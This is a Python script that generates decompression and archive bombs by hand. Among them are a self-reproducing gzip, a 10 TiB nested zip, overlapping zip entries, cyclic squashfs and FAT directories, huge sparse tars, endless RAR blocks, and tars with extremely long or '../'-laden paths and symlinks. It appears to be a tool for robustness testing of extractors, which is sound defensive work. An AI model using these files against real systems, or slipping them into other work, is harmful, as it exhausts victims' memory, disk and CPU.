"""Makes bombs: small files that claim to be large, deep, many or without end. `bombs.py NAME FILE [NUMBER]`.

Each is written by hand from the description of its format, so that it does what no packer would.
"""
import bz2
import gzip
import hashlib
import io
import lzma
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib

NONE = 0xFFFFFFFFFFFFFFFF


# --- a gzip file that decodes to itself ---

def stored(units):
    """A stored block of so many units of five bytes, which is a unit itself."""
    return struct.pack("<BHH", 0, 5 * units, 0xFFFF ^ 5 * units)


def again():
    """A block that repeats the last four units: two matches of 10 bytes from 20 back are 40 bits, so a unit too."""
    bits = []
    match = [(264 - 256, 7, True), (8, 5, True), (20 - 17, 3, False)]
    for value, count, first_is_high in [(0, 1, False), (1, 2, False)] + match + match + [(0, 7, True)]:
        places = range(count - 1, -1, -1) if first_is_high else range(count)
        bits += [value >> place & 1 for place in places]
    return bytes(sum(bits[8 * i + j] << j for j in range(8)) for i in range(5))


def quine_with(name, crc):
    """L prints what follows it, R repeats: Cox, "Zip Files All The Way Down" (2010)."""
    l0, l1, l4, r = stored(0), stored(1), stored(4), again()
    begin = b"\x1f\x8b\x08\x08" + bytes(4) + b"\x02\x03" + name + b"\0"
    assert len(begin) == 15
    before = [begin, l4, begin, l4, r, l1, r, l1, l1, l4, r, l1, l1, l4, r, l4, r, l4, r, l4, r, l4, r, l0, l0, l4, r, l0, l0, l4]
    size = len(b"".join(before)) + 2 * (len(r) + 15)
    end = l0 + b"\x03\x00" + struct.pack("<II", crc, size)
    return b"".join(before) + r + end + r + end


def quine_crc(name):
    """The check sum of what holds itself, twice: CRC-32 is affine, so 32 equations of 32 bits."""
    base = zlib.crc32(quine_with(name, 0))
    columns = [zlib.crc32(quine_with(name, 1 << i)) ^ base ^ 1 << i for i in range(32)]
    rows = [[sum((columns[i] >> row & 1) << i for i in range(32)), base >> row & 1] for row in range(32)]
    pivots = {}
    for column in range(32):
        row = next((i for i in range(32) if i not in pivots.values() and rows[i][0] >> column & 1), None)
        if row is None:
            continue
        pivots[column] = row
        for i in range(32):
            if i != row and rows[i][0] >> column & 1:
                rows[i] = [rows[i][0] ^ rows[row][0], rows[i][1] ^ rows[row][1]]
    if any(left == 0 and right for left, right in rows):
        return None
    return sum(rows[row][1] << column for column, row in pivots.items())


def quine(_):
    for number in range(10000):
        name = b"%04d" % number
        crc = quine_crc(name)
        if crc is not None:
            data = quine_with(name, crc)
            assert gzip.decompress(data) == data
            return data
    raise AssertionError


# --- one stream in another ---

def by(*command):
    return lambda data: subprocess.run(command, input=data, stdout=subprocess.PIPE, check=True).stdout


CODECS = {
    "gzip": lambda data: gzip.compress(data, 9, mtime=0),
    "bzip2": bz2.compress,
    "xz": lzma.compress,
    "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE, preset=0),
    "zstd": by("zstd", "-qc"),
    "lz4": by("lz4", "-qc", "-B7", "-BD"),
    "lz4-legacy": by("lz4", "-qlc"),
    "lzip": by("lzip", "-qc"),
    "compress": by("compress", "-cf"),
}


def twice(codec, parts):
    """So many times 16 MiB of zeros, in a member each where one may stand behind another: that takes less time."""
    pack = CODECS[codec]
    if codec in ("lzma", "compress"):
        return pack(pack(bytes(parts << 24)))
    return pack(pack(bytes(16 << 20)) * parts)


def members(codec):
    return CODECS[codec](b"") * 150000


def skipped(codec):
    return CODECS[codec](b"") + b"\x50\x2a\x4d\x18\0\0\0\0" * 150000


# --- archives ---

def zipped(entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def nested(_):
    """16 in each of 5 levels, 10 MiB of zeros in the last: 10 TiB."""
    data = zipped([("zeros", bytes(10 << 20))])
    for _level in range(5):
        data = zipped([("%d.zip" % i, data) for i in range(16)])
    return data


def overlapping(count, stored=False):
    """So many entries of one directory, all of which lead to one stream of 50 MB, or to 8 MB as they are."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = bytes(8000000 if stored else 50000000)
    body = raw if stored else packer.compress(raw) + packer.flush()
    method = 0 if stored else 8
    fields = struct.pack("<HHHHHIIIHH", 20, 0, method, 0, 33, zlib.crc32(raw), len(body), len(raw), 1, 0)
    out = b"PK\3\4" + fields + b"f" + body
    start = len(out)
    out += (b"PK\1\2" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, 0) + b"f") * count
    return out + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, len(out) - start, start, 0)


def packed_zip(count, level):
    """So many entries of a few bytes each, which are other bytes at each level."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for number in range(count):
            entry = zipfile.ZipInfo("f%d" % number)
            entry.external_attr = 0o100644 << 16
            entry.create_system = 3
            archive.writestr(entry, b"%d abcabd\0abcabd\0abeabc\0abfabc\0abdab\0" % number * 4, zipfile.ZIP_DEFLATED, level)
    return out.getvalue()


def rpm(count, texts=False):
    """A package whose second header has so many entries, of a byte each; or of one text, which all of them share."""
    lead = b"\xed\xab\xee\xdb\3".ljust(78, b"\0") + struct.pack(">H", 5)

    def header(tags, kind, step, data):
        index = b"".join(struct.pack(">IIII", tag, kind, step * i, 1) for i, tag in enumerate(tags))
        return b"\x8e\xad\xe8\1\0\0\0\0" + struct.pack(">II", len(tags), len(data)) + index + data

    out = lead.ljust(96, b"\0") + header([1008], 2, 1, b"\1")
    out += bytes(-len(out) % 8)
    tags = range(100000, 100000 + count)
    second = header(tags, 6, 1, b"t" * 8000000 + b"\0") if texts else header(tags, 2, 1, b"\1" * count)
    return out + second + b"payload"


def tarred(style, names):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=style) as archive:
        for name in names:
            entry = tarfile.TarInfo(name)
            entry.size = 1
            archive.addfile(entry, io.BytesIO(b"x"))
    return out.getvalue()


def newc(name, data, mode, inode):
    encoded = name.encode() + b"\0"
    numbers = (inode, mode, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(encoded), 0)
    head = b"070701" + b"".join(b"%08x" % number for number in numbers) + encoded
    return head + bytes(-len(head) % 4) + data + bytes(-len(data) % 4)


def cpio(names):
    parts = [newc(name, b"x", 0o100644, i + 1) for i, name in enumerate(names)]
    return b"".join(parts) + newc("TRAILER!!!", b"", 0, 0)


def deep_name(levels):
    return "d/" * levels + "f"


def flat_names(count):
    return ("f%d" % i for i in range(count))


def ar(count):
    entries = (b"%-16s%-12d%-6d%-6d%-8o%-10d`\nx\n" % (b"f%d/" % i, 0, 0, 0, 0o644, 1) for i in range(count))
    return b"!<arch>\n" + b"".join(entries)


def sparse_tar(size):
    """The old form of GNU: one byte at the end of a hole."""
    head = bytearray(512)

    def put(at, text):
        head[at:at + len(text)] = text

    put(0, b"hole")
    put(100, b"0000644\0" + b"0000000\0" * 2 + b"%011o\0" % 512 + b"00000000000\0" + b" " * 8 + b"S")
    put(257, b"ustar  \0")
    put(386, b"\x80\0\0\0" + struct.pack(">Q", size - 512) + b"00000001000\0")
    put(483, b"\x80\0\0\0" + struct.pack(">Q", size))
    put(148, b"%06o\0 " % sum(head))
    return bytes(head) + bytes(512 + 1024)


def sparse_pax(version, size):
    """GNU's in pax: the records of a version, and one byte at the end of a hole; 1.0 has the map in the content."""
    records = {
        "0.0": [("size", size), ("numblocks", 1), ("offset", size - 1), ("numbytes", 1)],
        "0.1": [("size", size), ("numblocks", 1), ("name", "hole"), ("map", "%d,1" % (size - 1))],
        "1.0": [("major", 1), ("minor", 0), ("name", "hole"), ("realsize", size)],
    }[version]
    body = b""
    for key, value in records:
        record = b" GNU.sparse.%s=%s\n" % (key.encode(), str(value).encode())
        length = len(record)
        while len(b"%d" % length) + len(record) != length:
            length = len(b"%d" % length) + len(record)
        body += b"%d" % length + record
    content = (b"1\n%d\n1\n" % (size - 1)).ljust(512, b"\0") + b"x" if version == "1.0" else b"x"
    out = io.BytesIO()
    for name, kind, data in (("PaxHeaders/hole", b"x", body), ("GNUSparseFile.1/hole", b"0", content)):
        entry = tarfile.TarInfo(name)
        entry.type = kind
        entry.size = len(data)
        out.write(entry.tobuf(tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512))
    return out.getvalue() + bytes(1024)


# --- file systems ---

def metadata(blob):
    parts = (blob[i:i + 8192] for i in range(0, len(blob), 8192))
    return b"".join(struct.pack("<H", 0x8000 | len(part)) + part for part in parts)


def place(offset):
    """Where a byte of a table of blocks that are not compressed lies: the block, and in it."""
    return offset // 8192 * 8194, offset % 8192


def squashfs(inodes, directories, root, count, log=17):
    body = bytes(96)
    inode_table = len(body)
    body += metadata(inodes)
    directory_table = len(body)
    body += metadata(directories)
    ids = len(body)
    body += metadata(struct.pack("<I", 0))
    id_list = len(body)
    body += struct.pack("<Q", ids)
    block, offset = place(root)
    flags = 0x1 | 0x2 | 0x8 | 0x10 | 0x200
    head = struct.pack("<IIIIIHHHHHH", 0x73717368, count, 1, 1 << log, 0, 1, log, flags, 1, 4, 0)
    head += struct.pack("<QQQQQQQQ", block << 16 | offset, len(body), id_list, NONE, inode_table, directory_table, NONE, NONE)
    body = head + body[96:]
    return body + bytes(-len(body) % 4096)


def squashfs_deep(levels, back=False):
    """Directories in one another; @back: the last holds the first."""
    inodes = directories = b""
    for level in range(levels):
        last = level == levels - 1
        size = 0 if last and not back else 12 + 8 + 1
        block, offset = place(len(directories))
        inodes += struct.pack("<HHHHII", 1, 0o755, 0, 0, 1, level + 1)
        inodes += struct.pack("<IIHHI", block, 2 if last else 3, size + 3, offset, level if level else levels + 1)
        if size:
            child, at = place(0 if last else 32 * (level + 1))
            number = 1 if last else level + 2
            directories += struct.pack("<III", 0, child, number) + struct.pack("<HhHH", at, 0, 1, 0) + b"d"
    return squashfs(inodes, directories, 0, levels)


def squashfs_flat(count):
    inodes = b"".join(struct.pack("<HHHHIIIIII", 2, 0o644, 0, 0, 1, i + 1, 96, 0xFFFFFFFF, 0, 0) for i in range(count))
    names = sorted(b"f%d" % i for i in range(count))
    parts = []
    at = 0
    while at < count:
        block = place(32 * at)[0]
        run = 0
        while at + run < count and run < 256 and place(32 * (at + run))[0] == block:
            run += 1
        parts.append(struct.pack("<III", run - 1, block, at + 1))
        for i in range(run):
            name = names[at + i]
            parts.append(struct.pack("<HhHH", place(32 * (at + i))[1], i, 2, len(name) - 1) + name)
        at += run
    directories = b"".join(parts)
    root = len(inodes)
    inodes += struct.pack("<HHHHII", 8, 0o755, 0, 0, 1, count + 1)
    inodes += struct.pack("<IIIIHHI", 2, len(directories) + 3, 0, count + 2, 0, 0, 0xFFFFFFFF)
    return squashfs(inodes, directories, root, count + 1)


def squashfs_zeros(size):
    """One file of zeros, in blocks of 1 MiB that are not stored."""
    inodes = struct.pack("<HHHHII", 9, 0o644, 0, 0, 1, 1)
    inodes += struct.pack("<QQQIIII", 96, size, 0, 1, 0xFFFFFFFF, 0, 0xFFFFFFFF) + bytes(4 * (size >> 20))
    directories = struct.pack("<III", 0, 0, 1) + struct.pack("<HhHH", 0, 0, 2, 4) + b"zeros"
    root = len(inodes)
    inodes += struct.pack("<HHHHII", 1, 0o755, 0, 0, 1, 2) + struct.pack("<IIHHI", 0, 2, len(directories) + 3, 0, 3)
    return squashfs(inodes, directories, root, 2, 20)


def fat_entry(name, cluster):
    return name.ljust(11) + struct.pack("<BBBHHHHHHHI", 0x10, 0, 0, 0, 33, 33, 0, 0, 33, cluster, 0)


def fat_deep(levels, back=False):
    clusters = 5000
    table_sectors = (clusters + 2) * 2 // 512 + 1
    sectors = 1 + table_sectors + 1 + clusters
    boot = b"\xeb\x3c\x90mkfs.fat"
    boot += struct.pack("<HBHBHHBHHHII", 512, 1, 1, 1, 16, sectors, 0xF8, table_sectors, 32, 2, 0, 0)
    boot += struct.pack("<BBBI", 0x80, 0, 0x29, 1) + b"NO NAME    FAT16   "
    out = boot.ljust(510, b"\0") + b"\x55\xaa"
    out += (struct.pack("<HH", 0xFFF8, 0xFFFF) + b"\xff\xff" * levels).ljust(512 * table_sectors, b"\0")
    out += fat_entry(b"D", 2).ljust(512, b"\0")
    for level in range(levels):
        part = fat_entry(b".", level + 2) + fat_entry(b"..", level + 1 if level else 0)
        if level < levels - 1 or back:
            part += fat_entry(b"D", level + 3 if level < levels - 1 else 2)
        out += part.ljust(512, b"\0")
    return out.ljust(512 * sectors, b"\0")


def rar(size):
    """Blocks of RAR 5 that never end, of which a reader skips each: as much of them, in xz."""
    block = b"3\x92\xb5\xe5\n\x01\x05\x06\n"
    return lzma.compress(b"Rar!\x1a\x07\x01\0" + block * (size // len(block)), preset=1)


def fit(count, data=b"a disk of memory", digests=1, long_name=0, signed=0):
    """So many images with so many equal digests each, and as many configurations; the time is at byte 76. With a long
    name: an image has properties without a value, whose names are ends of it. Signed: an image has a signature with so
    many properties, each with a name of its own behind all others."""
    names = {}
    strings = bytearray()

    def value(name, data):
        if name not in names:
            names[name] = len(strings)
            strings.extend(name.encode() + b"\0")
        return struct.pack(">III", 3, len(data), names[name]) + data.ljust(-len(data) % 4 + len(data), b"\0")

    def node(name, *parts):
        start = name.encode() + b"\0"
        return b"\0\0\0\1" + start.ljust(-len(start) % 4 + len(start), b"\0") + b"".join(parts) + b"\0\0\0\2"

    kept = (value("value", hashlib.sha256(data).digest()), value("algo", b"sha256\0"))
    beneath = [node("hash-%d" % i, *kept) for i in range(1, digests + 1)]
    uses = [node("conf-%d" % i, value("ramdisk", b"image-%d\0" % i)) for i in range(count)]
    time = value("timestamp", struct.pack(">I", 1700000000))
    about = [value("data", data), value("type", b"ramdisk\0")]
    about += [struct.pack(">III", 3, 0, len(strings) + i) for i in range(long_name // 100)]
    strings.extend(b"n" * long_name + b"\0" * (long_name > 0))
    if signed:
        beneath.append(node("signature-1", *[struct.pack(">III", 3, 0, len(strings) + 2 * i) for i in range(signed)]))
        strings.extend(b"a\0" * signed)
    images = [node("image-%d" % i, *about, *beneath) for i in range(count)]
    tree = node("", time, node("images", *images), node("configurations", *uses)) + b"\0\0\0\x09"
    at = 40 + 16
    sizes = (at + len(tree) + len(strings), at, at + len(tree), 40, 17, 16, 0, len(strings), len(tree))
    return struct.pack(">10I", 0xD00DFEED, *sizes) + bytes(16) + tree + strings


def long_paths(count, upwards, seed=1):
    """So many names of 4,000 bytes in a tar: of links with a target as long, or of files, each on a way of its own that
    leads up again and again; and a file `f`."""

    def head(name, size, kind, link=b""):
        return struct.pack("100s8s8s8s12s12s8sc100s8s", name[:100], b"0000644", b"0000000", b"0000000", b"%011o" % size,
                           b"%011o" % (1700000000 + seed), b" " * 8, kind, link[:100], b"ustar\x0000")

    def block(name, size, kind, link=b""):
        bytes_ = bytearray(head(name, size, kind, link).ljust(512, b"\0"))
        bytes_[148:156] = b"%06o\0 " % sum(bytes_)
        return bytes(bytes_)

    def long(kind, text):
        text += b"\0"
        return block(b"././@LongLink", len(text), kind) + text.ljust(-len(text) % 512 + len(text), b"\0")

    out = bytearray()
    for number in range(count):
        name = b"%d/" % number + b"a/../" * 780 if upwards else b"x/" * 2000 + b"%d" % number
        out += long(b"L", name)
        link = b"" if upwards else b"../" * 1300 + b"%d" % (number + 1)
        out += (long(b"K", link) if link else b"") + block(name, 0, b"2" if link else b"0", link)
    return out + block(b"f", 4, b"0") + b"abcd" + bytes(508 + 1024)


MAKERS = {
    "quine": quine,
    "nested": nested,
    "overlapping": overlapping,
    "overlapping.stored": lambda n: overlapping(n, True),
    "deep.pax": lambda n: tarred(tarfile.PAX_FORMAT, [deep_name(n)]),
    "deep.tar": lambda n: tarred(tarfile.GNU_FORMAT, [deep_name(n)]),
    "deep.cpio": lambda n: cpio([deep_name(n)]),
    "deep.zip": lambda n: zipped([(deep_name(n), b"x")]),
    "deep.squashfs": squashfs_deep,
    "deep.fat": fat_deep,
    "round.squashfs": lambda n: squashfs_deep(n, True),
    "round.fat": lambda n: fat_deep(n, True),
    "many.tar": lambda n: tarred(tarfile.GNU_FORMAT, flat_names(n)),
    "many.cpio": lambda n: cpio(flat_names(n)),
    "many.ar": ar,
    "many.squashfs": squashfs_flat,
    "many.fit": fit,
    "hashes.fit": lambda n: fit(1, bytes(8 << 20), n),
    "names.fit": lambda n: fit(1, long_name=n),
    "signed.fit": lambda n: fit(1, signed=n),
    "tags.rpm": rpm,
    "texts.rpm": lambda n: rpm(n, True),
    "links.tar": lambda n: long_paths(n, False),
    "links.later": lambda n: long_paths(n, False, 2),
    "upwards.tar": lambda n: long_paths(n, True),
    "upwards.later": lambda n: long_paths(n, True, 2),
    "tight.zip": lambda n: packed_zip(n, 9),
    "loose.zip": lambda n: packed_zip(n, 1),
    "endless.rar": rar,
    "zeros.squashfs": squashfs_zeros,
    "sparse.old": sparse_tar,
    "sparse.1.0": lambda n: sparse_pax("1.0", n),
    "sparse.0.1": lambda n: sparse_pax("0.1", n),
    "sparse.0.0": lambda n: sparse_pax("0.0", n),
}
for packer_name in CODECS:
    MAKERS["twice." + packer_name] = lambda n, codec=packer_name: twice(codec, n)
    MAKERS["members." + packer_name] = lambda _, codec=packer_name: members(codec)
    MAKERS["skipped." + packer_name] = lambda _, codec=packer_name: skipped(codec)

with open(sys.argv[2], "wb") as file:
    file.write(MAKERS[sys.argv[1]](int(sys.argv[3]) if len(sys.argv) > 3 else 0))
